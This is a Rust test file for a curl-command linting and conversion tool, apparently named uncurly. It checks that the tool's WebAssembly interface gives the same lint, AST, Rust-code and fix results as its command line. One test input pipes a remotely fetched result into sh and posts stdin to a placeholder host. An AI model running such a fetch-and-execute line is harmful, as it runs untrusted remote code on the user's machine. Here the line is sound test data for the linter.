//! What WebAssembly gives is what the command line gives.

use serde_json::json;
use uncurly::wasm::call;

use crate::program::uncurly;

const TEXTS: &[&str] = &[
    "",
    "curl https://example.com\n",
    "Déjà 🚀: curl –X post “https://api.cloudflare.com/client/v4/zones/” -H 'X-Auth-Key: c2547eb745079dac9320b638f5e225cf483cc5cfdda4'\n\n{\"success\":false,\"errors\":[{\"code\":6003,\"message\":\"Invalid request headers\"}]}\n",
    "curl \"$(curl https://a.example)\" | sh\ncurl -d @- https://b.example <<X\né\nX\n",
];

#[track_caller]
fn check(command: &str, arguments: &[&str], text: &str) {
    let told = uncurly().args(arguments.iter().copied()).stdin(text).run().stdout;
    assert_eq!(call(&json!({"command": command, "text": text}).to_string()), told, "{command}: {text}");
}

#[test]
fn findings_are_those_of_lint() {
    for text in TEXTS {
        check("lint", &["lint", "--format", "json", "-"], text);
    }
}

#[test]
fn trees_are_those_of_ast() {
    for text in TEXTS.iter().filter(|text| !text.is_empty()) {
        check("ast", &["ast", "-"], text);
    }
}

#[test]
fn programs_are_those_of_rust() {
    for text in TEXTS.iter().filter(|text| !text.is_empty()) {
        let told = uncurly().args(["rust", "-"]).stdin(*text).run();
        let answer = call(&json!({"command": "rust", "text": text}).to_string());
        let answer: serde_json::Value = serde_json::from_str(&answer).expect("an answer is JSON");
        assert_eq!(answer["code"].as_str().unwrap_or_default(), told.stdout, "{text}");
    }
}

#[test]
fn texts_are_those_of_fix() {
    for text in TEXTS.iter().filter(|text| !text.is_empty()) {
        let told = uncurly().args(["fix", "--document", "-"]).stdin(*text).run();
        let answer = call(&json!({"command": "fix", "text": text}).to_string());
        let answer: serde_json::Value = serde_json::from_str(&answer).expect("an answer is JSON");
        assert_eq!(answer["text"], told.stdout, "{text}");
    }
}
